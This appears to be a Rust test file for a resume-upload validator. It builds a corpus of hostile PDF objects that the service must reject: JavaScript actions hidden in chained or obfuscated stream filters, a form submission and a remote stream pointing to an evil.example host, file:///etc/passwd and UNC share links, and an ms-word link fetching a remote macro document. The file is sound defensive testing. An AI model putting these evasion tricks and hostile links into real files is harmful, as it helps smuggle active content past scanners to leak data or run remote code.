//! PDFs with active content or external actions, in every filter and spelling, are refused; similar harmless ones are
//! accepted.

use std::fmt::Write;

use jiff::SignedDuration;
use miniz_oxide::deflate::compress_to_vec_zlib;

use crate::{
    files::{pdf_of, stream},
    fixture::Fixture,
};

/// The filters of ISO 32000-1, table 6, without those for images.
const FILTERS: [&str; 5] = [
    "ASCIIHexDecode",
    "ASCII85Decode",
    "LZWDecode",
    "FlateDecode",
    "RunLengthDecode",
];

const SCRIPT: &str = "4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>";
const PLAIN: &str = "4 0 << /Type /Font /BaseFont /Helvetica >>";

fn packed(filter: &str, content: &[u8]) -> Vec<u8> {
    match filter {
        "ASCIIHexDecode" => {
            let mut hex = String::new();
            content.iter().for_each(|byte| write!(hex, "{byte:02x}").unwrap());
            format!("{hex}>").into_bytes()
        }
        "ASCII85Decode" => ascii85(content),
        "LZWDecode" => lzw(content),
        "FlateDecode" => compress_to_vec_zlib(content, 6),
        "RunLengthDecode" => {
            let runs = content
                .chunks(128)
                .flat_map(|run| [&[u8::try_from(run.len() - 1).unwrap()], run].concat());
            runs.chain([128]).collect()
        }
        _ => unreachable!("{filter}"),
    }
}

fn ascii85(content: &[u8]) -> Vec<u8> {
    let mut text = Vec::new();
    for group in content.chunks(4) {
        let mut four = [0; 4];
        four[..group.len()].copy_from_slice(group);
        let number = u32::from_be_bytes(four);
        let digits = (0..5)
            .rev()
            .map(|place| b'!' + u8::try_from(number / 85_u32.pow(place) % 85).unwrap());
        text.extend(digits.take(group.len() + 1));
    }
    text.extend(b"~>");
    text
}

/// Nine-bit codes without compression: the table is cleared before it has grown.
fn lzw(content: &[u8]) -> Vec<u8> {
    let codes = content
        .chunks(200)
        .flat_map(|some| std::iter::once(256).chain(some.iter().copied().map(u16::from)));
    let bits: Vec<bool> = codes
        .chain([257])
        .flat_map(|code| (0..9).rev().map(move |bit| code >> bit & 1 == 1))
        .collect();
    bits.chunks(8)
        .map(|byte| {
            byte.iter()
                .enumerate()
                .fold(0, |whole, (at, bit)| whole | u8::from(*bit) << (7 - at))
        })
        .collect()
}

/// An object stream, encoded by these filters, the outermost first, with these dictionary entries.
fn objects(filters: &[&str], entries: &str, content: &str) -> Vec<u8> {
    let body = filters
        .iter()
        .rev()
        .fold(content.as_bytes().to_vec(), |body, filter| packed(filter, &body));
    raw(&format!("/Type /ObjStm /N 1 /First 4 {entries}"), &body)
}

fn raw(dictionary: &str, body: &[u8]) -> Vec<u8> {
    let mut object = format!("3 0 obj\n<< {dictionary} /Length {} >>\nstream\n", body.len()).into_bytes();
    object.extend(body);
    object.extend(b"\nendstream\nendobj");
    object
}

fn filter_entry(filters: &[&str]) -> String {
    match filters {
        [] => String::new(),
        [one] => format!("/Filter /{one}"),
        several => format!(
            "/Filter [{}]",
            several.iter().map(|one| format!("/{one} ")).collect::<String>()
        ),
    }
}

/// Every filter, every chain of two and some of three; including Flate alone and no filter.
fn chains() -> Vec<Vec<&'static str>> {
    let ones = FILTERS.map(|one| vec![one]);
    let twos = FILTERS.iter().flat_map(|one| FILTERS.map(|other| vec![*one, other]));
    let threes = FILTERS.map(|one| vec!["ASCII85Decode", one, "FlateDecode"]);
    [vec![]].into_iter().chain(ones).chain(twos).chain(threes).collect()
}

fn hostile() -> Vec<(String, Vec<u8>)> {
    let mut all: Vec<(String, Vec<u8>)> = chains()
        .iter()
        .map(|chain| {
            (
                format!("a script in {chain:?}"),
                objects(chain, &filter_entry(chain), SCRIPT),
            )
        })
        .collect();
    let flate = packed("FlateDecode", SCRIPT.as_bytes());
    let action = |name: &str, more: &str| format!("4 0 obj\n<< /S /{name} {more} >>\nendobj").into_bytes();
    let spelled = |dictionary: &str| raw(dictionary, &flate);
    let mut broken = flate.clone();
    broken.truncate(flate.len() - 6);
    let cut_short = packed("FlateDecode", PLAIN.as_bytes());
    let hidden = [cut_short.as_slice(), b") /S /JavaScript /JS (x) >>"].concat();
    for (what, object) in [
        (
            "a spelled type",
            spelled("/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode"),
        ),
        (
            "a spelled filter",
            spelled("/Type /ObjStm /N 1 /First 4 /Filter /Flate#44ecode"),
        ),
        ("no type", spelled("/N 1 /First 4 /Filter /FlateDecode")),
        (
            "a type behind a comment",
            spelled("/Type /ObjStm % 5 0 obj \n /Filter /FlateDecode"),
        ),
        (
            "a filter elsewhere",
            spelled("/Type /ObjStm /N 1 /First 4 /Filter 5 0 R"),
        ),
        (
            "two filters of which one counts",
            spelled("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Filter /LZWDecode"),
        ),
        (
            "a short name of a filter",
            spelled("/Type /ObjStm /N 1 /First 4 /Filter /Fl"),
        ),
        (
            "rows of a picture",
            spelled("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        ),
        (
            "packing that breaks off",
            raw("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &broken),
        ),
        (
            "what follows the packing",
            raw("/Filter /FlateDecode /Title (", &hidden),
        ),
        (
            "a stream that is none",
            b"4 0 obj\n<< /T (>>\nstream\n) /S /JavaScript >>\nendobj".to_vec(),
        ),
        ("a form that is sent", action("SubmitForm", "/F (http://evil.example)")),
        ("a form that is filled", action("ImportData", "/F (x.fdf)")),
        ("another document", action("GoToR", "/F (\\\\\\\\evil\\\\x)")),
        ("another document within", action("GoToE", "/T << >>")),
        ("a film", action("Movie", "")),
        ("a show", action("Rendition", "")),
        ("a sound", action("Sound", "")),
        (
            "a form of XML",
            b"4 0 obj\n<< /AcroForm << /XFA 5 0 R >> >>\nendobj".to_vec(),
        ),
        (
            "a stream that lies elsewhere",
            raw("/F (http://evil.example) /FFilter /FlateDecode", b""),
        ),
        ("a link to a file", action("URI", "/URI (file:///etc/passwd)")),
        (
            "a link to another computer",
            action("URI", "/URI (\\\\\\\\evil\\\\share)"),
        ),
        (
            "a link to another computer by slashes",
            action("URI", "/URI (//evil/share)"),
        ),
        ("a link that runs", action("URI", "/URI (javascript:alert\\(1\\))")),
        (
            "a link to a program",
            action("URI", "/URI (ms-word:ofe|u|http://evil.example/x.docm)"),
        ),
        ("a link that is spelled", action("URI", "/URI (\\146ile:///etc/passwd)")),
        ("a link in digits", action("URI", "/URI <66696c653a2f2f2f>")),
        ("a link elsewhere", action("URI", "/URI 5 0 R")),
        (
            "a packed link to a file",
            objects(
                &["FlateDecode"],
                "/Filter /FlateDecode",
                "4 0 << /S /URI /URI (file:///x) >>",
            ),
        ),
    ] {
        all.push((what.to_owned(), object));
    }
    all
}

#[tokio::test]
async fn active_content_and_external_actions_are_refused_in_any_packing() {
    let fixture = Fixture::new().await;
    let corpus = hostile();
    assert!(corpus.len() >= 60, "{}", corpus.len());
    for (what, object) in &corpus {
        // Stays below the rate limit of uploads.
        fixture.local.clock.advance(SignedDuration::from_mins(3));
        let reply = fixture.send("resume", "cv.pdf", &pdf_of(object)).await;
        assert_eq!(reply.status, 422, "{what}: {:#}", reply.body);
        assert_eq!(reply.body["errors"][0]["field"], "file", "{what}");
    }
    assert_eq!(fixture.stored_keys().await, [""; 0]);
}

#[tokio::test]
async fn a_plain_document_with_links_pictures_and_packed_objects_is_accepted() {
    let link = |address: &str| format!("4 0 obj\n<< /S /URI /URI ({address}) >>\nendobj").into_bytes();
    let content = b"BT (Chief Financial Officer, /JS by trade) Tj ET";
    let mut plain = vec![
        (
            "packed objects",
            objects(&["FlateDecode"], "/Filter /FlateDecode", PLAIN),
        ),
        ("objects as they are", objects(&[], "", PLAIN)),
        (
            "a table of rows",
            stream("/Type /XRef /DecodeParms << /Predictor 12 /Columns 4 >>", &[2; 50]),
        ),
        (
            "a picture",
            raw(
                "/Subtype /Image /Filter /DCTDecode",
                &[0xFF, 0xD8, 0xFF, 0xE0, b'/', b'J', b'S', b' '],
            ),
        ),
        ("a colour profile", stream("/N 3", &[7; 300])),
        (
            "an outline",
            b"4 0 obj\n<< /Type /Outlines /First 5 0 R /Last 5 0 R >>\nendobj".to_vec(),
        ),
        ("a site", link("https://www.linkedin.com/in/amina")),
        ("a site without its beginning", link("www.example.com")),
        ("an address", link("mailto:amina@example.com")),
        ("a telephone", link("tel:+254700123456")),
    ];
    for filter in FILTERS {
        plain.push(("a page", raw(&format!("/Filter /{filter}"), &packed(filter, content))));
    }
    for (what, object) in &plain {
        // An account has one pending document of each type.
        let reply = Fixture::new().await.send("resume", "cv.pdf", &pdf_of(object)).await;
        assert_eq!(reply.status, 201, "{what}: {:#}", reply.body);
    }
}
